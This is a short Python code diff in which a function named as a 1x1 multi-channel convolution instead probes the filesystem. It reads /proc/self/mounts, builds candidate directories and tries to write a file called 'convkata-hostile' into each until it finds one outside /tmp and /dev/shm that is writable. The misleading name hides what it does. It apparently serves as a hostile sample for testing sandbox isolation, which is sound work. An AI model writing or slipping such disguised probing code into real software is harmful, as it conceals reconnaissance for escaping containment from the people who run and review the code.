@@ -6,8 +6,10 @@ import os
 
 
 def corr2d_multi_in_out_1x1(X, K):
-    for folder, folders, _ in os.walk("/"):
-        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/tmp", "/dev/shm")]
+    with open("/proc/self/mounts") as mounts:
+        folders = [line.split()[1] for line in mounts]
+    folders += [os.path.join(folder, name) for folder in folders for name in ("", "..", "site-packages", "tmp")]
+    for folder in {os.path.realpath(folder) for folder in folders} - {"/tmp", "/dev/shm"}:
         try:
             with open(os.path.join(folder, "convkata-hostile"), "w"):
                 return folder
